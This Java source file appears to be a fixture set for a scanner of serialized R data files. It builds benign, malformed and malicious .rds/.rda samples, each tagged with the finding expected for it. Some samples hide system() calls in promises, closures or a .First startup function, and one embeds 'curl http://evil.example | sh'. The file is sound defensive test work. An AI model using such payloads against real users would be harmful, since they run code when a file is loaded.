package dev.assay.detectors.model.rdata;

import static dev.assay.detectors.FlatBytes.join;

import dev.assay.detectors.model.FormatCase;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** Emits R's format item by item: what R itself would not write, too. */
public final class RSamples {
    private static final int LIST = 2;
    private static final int CLOSURE = 3;
    private static final int ENVIRONMENT = 4;
    private static final int PROMISE = 5;
    private static final int CALL = 6;
    private static final int VECTOR = 19;
    private static final int STRINGS = 16;
    private static final int TAGGED = 1 << 10;
    private static final int ACTIVE = 1 << 27;
    private static final byte[] NIL = ints(254);
    private static final byte[] UNBOUND = ints(252);
    private static final byte[] GLOBAL = ints(253);

    private RSamples() {}

    private static byte[] ints(int... values) {
        ByteBuffer bytes = ByteBuffer.allocate(4 * values.length);
        for (int value : values) {
            bytes.putInt(value);
        }
        return bytes.array();
    }

    private static byte[] chars(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        return join(ints(9 | 64 << 12, bytes.length), bytes);
    }

    private static byte[] symbol(String name) {
        return join(ints(1), chars(name));
    }

    private static byte[] string(String text) {
        return join(ints(STRINGS, 1), chars(text));
    }

    private static byte[] call(byte[] function, byte[]... arguments) {
        byte[] all = join(ints(CALL), function);
        for (byte[] argument : arguments) {
            all = join(all, ints(LIST), argument);
        }
        return join(all, NIL);
    }

    private static byte[] system() {
        return call(symbol("system"), string("touch x"));
    }

    private static byte[] promise(byte[] expression) {
        return join(ints(PROMISE | TAGGED), GLOBAL, UNBOUND, expression);
    }

    private static byte[] closure(byte[] body) {
        return join(ints(CLOSURE | TAGGED), GLOBAL, NIL, body);
    }

    private static byte[] variable(int flags, String name, byte[] value) {
        return join(ints(LIST | TAGGED | flags), symbol(name), value, NIL);
    }

    private static byte[] environment(byte[] frame) {
        return join(ints(ENVIRONMENT, 0), GLOBAL, frame, NIL, NIL);
    }

    private static byte[] rds(byte[] object) {
        return join("X\n".getBytes(StandardCharsets.ISO_8859_1), ints(2, 0x40202, 0x20300), object);
    }

    private static byte[] workspace(byte[] object) {
        return join("RDX2\n".getBytes(StandardCharsets.ISO_8859_1), rds(object));
    }

    private static byte[] list(byte[]... elements) {
        return join(ints(VECTOR, elements.length), join(elements));
    }

    private static byte[] nested(int depth) {
        byte[] object = NIL;
        for (int i = 0; i < depth; i++) {
            object = list(object);
        }
        return rds(object);
    }

    public static List<FormatCase> cases() {
        byte[] qualified = call(call(symbol("::"), symbol("base"), symbol("system")), string("touch x"));
        return List.of(
                FormatCase.of("sound.rds", rds(list(string("one"), ints(13, 2, 1, 2), NIL))),
                FormatCase.of("formula.rds", rds(call(symbol("~"), symbol("y"), symbol("x")))),
                FormatCase.of(
                        "text.rds",
                        "A\n2\n262402\n131840\n16\n1\n262153\n4\na\\040b\\n\n".getBytes(StandardCharsets.ISO_8859_1)),
                FormatCase.of("promise.rds", rds(promise(system())), "model/r-promise", "model/r-promise-call"),
                FormatCase.of("quiet-promise.rds", rds(promise(call(symbol("print"), string("x")))), "model/r-promise"),
                FormatCase.of(
                        "promise.rda",
                        workspace(variable(0, "x", promise(system()))),
                        "model/r-promise",
                        "model/r-promise-call"),
                FormatCase.of(
                        "promise-in-list.rds", rds(list(promise(system()))), "model/r-promise", "model/r-promise-call"),
                FormatCase.of(
                        "promise-in-frame.rds",
                        rds(environment(variable(0, "x", promise(system())))),
                        "model/r-promise-call"),
                FormatCase.of(
                        "honest-promise.rds",
                        rds(environment(variable(0, "x", promise(call(symbol("+"), symbol("a"))))))),
                FormatCase.of("call.rds", rds(system()), "model/r-call"),
                FormatCase.of("qualified.rds", rds(qualified), "model/r-call"),
                FormatCase.of(
                        "do-call.rds", rds(call(symbol("do.call"), string("system"), string("x"))), "model/r-call"),
                FormatCase.of("function.rds", rds(closure(system())), "model/r-function-call"),
                FormatCase.of(
                        "active.rds", rds(environment(variable(ACTIVE, "x", closure(NIL)))), "model/r-active-binding"),
                FormatCase.of(
                        "startup.rdata", workspace(variable(0, ".First", closure(NIL))), "model/r-startup-function"),
                FormatCase.of("manual.rds", rds(string("call system('id') to see who you are"))),
                FormatCase.of(
                        "promised-command.rds",
                        rds(promise(call(symbol("run"), string("curl http://evil.example | sh")))),
                        "model/r-promise",
                        "model/embedded-command"),
                FormatCase.of("trailing.rds", join(rds(NIL), new byte[] {1}), "model/r-trailing-data"),
                FormatCase.of("deep.rds", nested(300)),
                FormatCase.of("too-deep.rds", nested(1_000), "gap:limit"),
                FormatCase.of("reference.rds", rds(ints(255 | 9 << 8)), "gap:malformed"),
                FormatCase.of("huge.rds", rds(ints(13, 0x7fffffff)), "gap:malformed"),
                FormatCase.of("negative.rds", rds(ints(VECTOR, -2)), "gap:malformed"),
                FormatCase.of("type.rds", rds(ints(99)), "gap:malformed"));
    }

    public static Map<String, byte[]> all() {
        return FormatCase.bytesByName(cases());
    }
}
